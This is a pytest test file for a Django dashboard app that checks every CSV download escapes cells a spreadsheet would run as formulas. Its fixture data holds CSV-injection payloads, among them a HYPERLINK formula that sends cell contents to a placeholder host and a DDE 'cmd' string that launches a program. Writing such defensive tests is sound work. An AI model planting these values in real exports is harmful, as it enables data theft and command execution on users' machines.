"""No download writes a cell a spreadsheet would run as a formula, headers included."""

from __future__ import annotations

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from core.csv_export import FORMULA_STARTS, csv_response, safe_cell
from dashboards.exports import CSV_TABLES as REVIEW_TABLES
from maturity.models import Action, Indicator, KeyArea, Theme
from maturity.services import round_close, round_open
from procurement.models import Category, Contract, Supplier
from procurement.views.spend_dashboard import CSV_TABLES as SPEND_TABLES
from socialvalue.exports import dashboard_tables
from socialvalue.models import Goal, Measure
from socialvalue.selectors import social_value_dashboard
from tests.dashboards.conftest import build_review_data
from tests.factories import UserFactory
from tests.procurement.factories import PipelineItemFactory

pytestmark = pytest.mark.django_db

NAMES = {
    "supplier": '=HYPERLINK("http://example.invalid/?d="&A1,"Verify")',
    "contract": "+cmd|' /C calc'!A0",
    "reference": "-2+3",
    "category": "@SUM(A1:A2)",
    "goal": "=1+2",
    "measure": "\tTabbed measure",
    "theme": "\rCarriage theme",
    "key_area": "=key area",
    "pipeline": "=pipeline",
    "action": "=action",
}


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _csv_cells(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def _csv_url_names() -> set[str]:
    names: set[str] = set()

    def walk(patterns, namespace: str = "") -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                walk(pattern.url_patterns, inner)
            elif isinstance(pattern, URLPattern) and pattern.name and "csv" in pattern.name:
                names.add(f"{namespace}{pattern.name}")

    walk(get_resolver().url_patterns)
    return names


@pytest.fixture
def formula_world(framework):
    data = build_review_data(framework=framework)
    Supplier.objects.filter(pk=data.suppliers["S1"].pk).update(name=NAMES["supplier"])
    Contract.objects.filter(pk=data.contracts["C1"].pk).update(
        title=NAMES["contract"], reference=NAMES["reference"]
    )
    Category.objects.filter(name="Home care").update(name=NAMES["category"])
    Goal.objects.filter(name="Thriving communities").update(name=NAMES["goal"])
    Measure.objects.filter(code="M1").update(description=NAMES["measure"])
    Theme.objects.filter(
        pk=Indicator.objects.filter(assessments__isnull=False).values("key_area__theme")[:1]
    ).update(name=NAMES["theme"])
    KeyArea.objects.filter(
        pk=Indicator.objects.filter(assessments__isnull=False).values("key_area")[:1]
    ).update(name=NAMES["key_area"])
    PipelineItemFactory(title=NAMES["pipeline"], planned_start=data.today)
    indicator = Indicator.objects.filter(assessments__isnull=False).order_by("pk").first()
    Action.objects.create(indicator=indicator, description=NAMES["action"], due_on=data.today)
    data.assessment_round = round_open(
        name="@round",
        opens_on=data.today,
        closes_on=data.today,
        indicators=[indicator],
        respondents=[(UserFactory(username="respondent"), "=team")],
        opened_by=UserFactory(username="opener"),
    )
    # Closed, so every reader may download its results.
    round_close(assessment_round=data.assessment_round, closed_by=UserFactory(username="closer"))
    return data


def _downloads(year: int, this_year: int, round_pk: int = 0) -> dict[str, list[tuple[str, dict]]]:
    sv_tables = dashboard_tables(social_value_dashboard(year=year, today=timezone.localdate()))
    return {
        "procurement:ending-soon-csv": [(reverse("procurement:ending-soon-csv"), {"months": 24})],
        "procurement:spend-csv": [
            (reverse("procurement:spend-csv", args=[slug]), {"year": year}) for slug in SPEND_TABLES
        ],
        "procurement:spend-flag-csv": [(reverse("procurement:spend-flag-csv"), {"year": year})],
        "procurement:notice-csv": [(reverse("procurement:notice-csv"), {})],
        "procurement:transparency-contracts-csv": [
            (reverse("procurement:transparency-contracts-csv"), {})
        ],
        "dashboards:annual-review-csv": [
            (reverse("dashboards:annual-review-csv", args=[slug]), {"year": year})
            for slug in REVIEW_TABLES
        ],
        "socialvalue:dashboard-csv": [
            (reverse("socialvalue:dashboard-csv"), {"table": key, "year": year})
            for key in sv_tables
        ],
        "socialvalue:review-csv": [(reverse("socialvalue:review-csv", args=[year]), {})],
        "maturity:action-plan-csv": [(reverse("maturity:action-plan-csv"), {})],
        "maturity:round-csv": [(reverse("maturity:round-csv", args=[round_pk]), {})],
        "framework": [(reverse("maturity:overview"), {"format": "csv"})],
        "gaps": [
            (reverse("maturity:gap-dashboard"), {"table": table})
            for table in ("themes", "key-areas", "largest-gaps")
        ],
        # Downloads of list pages, chosen by ?format=
        "savings": [(reverse("procurement:saving-list"), {"format": "csv", "year": year})],
        "pipeline": [
            (reverse("procurement:pipeline-list"), {"format": kind, "year": this_year})
            for kind in ("csv", "quarters")
        ],
    }


def test_the_walk_covers_every_url_named_as_a_csv_download(formula_world):
    downloads = _downloads(
        formula_world.year, formula_world.year + 1, formula_world.assessment_round.pk
    )

    assert _csv_url_names() - downloads.keys() == set()


def test_no_download_writes_a_cell_that_starts_a_formula(formula_world, officer_client):
    downloads = _downloads(
        formula_world.year, formula_world.year + 1, formula_world.assessment_round.pk
    )
    every_cell: list[str] = []
    live: list[tuple[str, str]] = []

    for requests in downloads.values():
        for url, params in requests:
            cells = _csv_cells(officer_client.get(url, params))
            every_cell += cells
            live += [
                (url, cell)
                for cell in cells
                if cell.startswith(FORMULA_STARTS) and not _is_number(cell)
            ]

    assert live == []
    # The names did reach the downloads, each written as text after an apostrophe.
    assert {name for name in NAMES.values() if f"'{name}" in every_cell} == set(NAMES.values())


def test_header_cells_are_made_safe_like_any_other():
    response = csv_response("x.csv", ["Year", "=1+2", "@goal"], [[2024, "-1", -5]])

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))

    assert rows == [["Year", "'=1+2", "'@goal"], ["2024", "'-1", "-5"]]


def test_numbers_stay_numbers_even_when_negative():
    assert safe_cell(Decimal("-5.00")) == Decimal("-5.00")
    assert safe_cell(-3) == -3
    assert safe_cell("-3") == "'-3"
